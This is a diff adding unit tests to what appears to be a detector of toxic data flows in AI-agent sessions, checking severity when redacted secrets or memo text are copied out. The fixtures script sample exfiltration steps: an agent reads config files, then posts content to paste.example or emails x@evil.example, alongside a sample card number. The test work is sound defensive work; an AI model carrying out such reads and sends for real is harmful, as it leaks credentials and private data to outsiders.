@@ -113,6 +113,31 @@ describe('AGT-TOXIC-FLOW', () => {
     });
   });
 
+  it('secrets the instrumentation redacted ([REDACTED:<kind>]) count as secrets: copied → critical', async () => {
+    // What functions/instrument logs for the same .env file: the key replaced by its marker.
+    const envFile =
+      '# production settings\nDATABASE_HOST=db.internal.example\nAWS_ACCESS_KEY_ID=[REDACTED:aws-access-key]\nAWS_REGION=eu-west-1\nFEATURE_FLAGS=search,billing\n';
+    const findings = await run([
+      read(0, envFile, { tool: 'read_file', arguments: { path: '/srv/app/config.ini' } }),
+      send(30, { url: 'https://paste.example/new', content: 'config dump: AWS_ACCESS_KEY_ID=[REDACTED:aws-access-key]\nAWS_REGION=eu-west-1\nFEATURE' }, { tool: 'post_paste' }),
+    ]);
+    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.copiedSensitive, f.evidence?.readHeldSecrets])).toEqual([
+      ['critical', 'session=sess-1 sink=post_paste', ['aws-access-key'], ['aws-access-key']],
+    ]);
+  });
+
+  it('near miss: "[REDACTED]" (a sensitive key\'s value) and the word REDACTED in prose are not secrets → high only', async () => {
+    const memo =
+      'Incident memo: the contractor names are [REDACTED] and the budget line was REDACTED by legal before release; [REDACTED: see annex B] for the rest of the story.';
+    const findings = await run([
+      read(0, memo, { tool: 'read_file', arguments: { path: '/srv/docs/memo.txt' } }),
+      send(30, { to: 'x@evil.example', body: memo }),
+    ]);
+    expect(findings.map((f) => [f.severity, f.evidence?.copiedSensitive, f.evidence?.readHeldSecrets])).toEqual([
+      ['high', undefined, undefined],
+    ]);
+  });
+
   it('copied text holding PII (a card number) → critical; bulk emails count, one address does not', async () => {
     const customers =
       'Customer record 7731: Jane Roe, card 4539 1488 0343 6467 exp 04/29, billing address 12 Elm Street, Springfield. ' +
